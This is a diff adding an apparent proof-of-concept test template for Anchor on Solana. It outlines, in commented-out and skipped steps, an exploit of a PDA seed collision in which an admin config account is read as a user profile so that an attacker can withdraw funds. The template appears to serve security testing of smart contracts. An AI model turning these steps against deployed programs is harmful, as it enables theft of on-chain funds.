@@ -0,0 +1,44 @@
+// PoC Template: PDA Seed Collision (Anchor TypeScript test)
+// Vulnerability: Different account types sharing PDA seeds
+// Chain: Solana/Anchor, run with `anchor test`
+//
+// The attacker initializes one account type at the PDA another type is
+// read from; see pda_seed_collision.rs for the vulnerable pattern and the
+// fix.
+
+import * as anchor from "@coral-xyz/anchor";
+import { BN, Program } from "@coral-xyz/anchor";
+import { Keypair, LAMPORTS_PER_SOL, PublicKey } from "@solana/web3.js";
+import { assert } from "chai";
+
+// ============================================================
+// EXPLOIT SCENARIO (Mocha)
+// ============================================================
+describe("pda_seed_collision exploit", () => {
+  const provider = anchor.AnchorProvider.env();
+  anchor.setProvider(provider);
+  const program = anchor.workspace.{{PROGRAM_NAME=my_program|camel}} as Program;
+  const attacker = Keypair.generate();
+
+  before(async () => {
+    const signature = await provider.connection.requestAirdrop(attacker.publicKey, 10 * LAMPORTS_PER_SOL);
+    await provider.connection.confirmTransaction({ signature, ...(await provider.connection.getLatestBlockhash()) });
+  });
+
+  // Drop .skip once the steps below are filled in
+  it.skip("reads a UserConfig as a UserProfile", async () => {
+    // 1. Initialize a UserConfig with is_admin = true at seeds [b"user", attacker]
+    // const [pda] = PublicKey.findProgramAddressSync([Buffer.from("user"), attacker.publicKey.toBuffer()],
+    //   program.programId);
+    // await program.methods.initConfig(true).accounts({ config: pda, user: attacker.publicKey })
+    //   .signers([attacker]).rpc();
+
+    // 2. Use the same PDA where the program expects a UserProfile
+    // await program.methods.withdraw(new BN(1)).accounts({ profile: pda, user: attacker.publicKey })
+    //   .signers([attacker]).rpc();
+
+    // 3. Should have failed; the config's bytes were read as the profile's balance
+    // const profile = await program.account.userProfile.fetch(pda);
+    // assert.ok(!profile.balance.isZero(), "Exploit: UserConfig read as UserProfile");
+  });
+});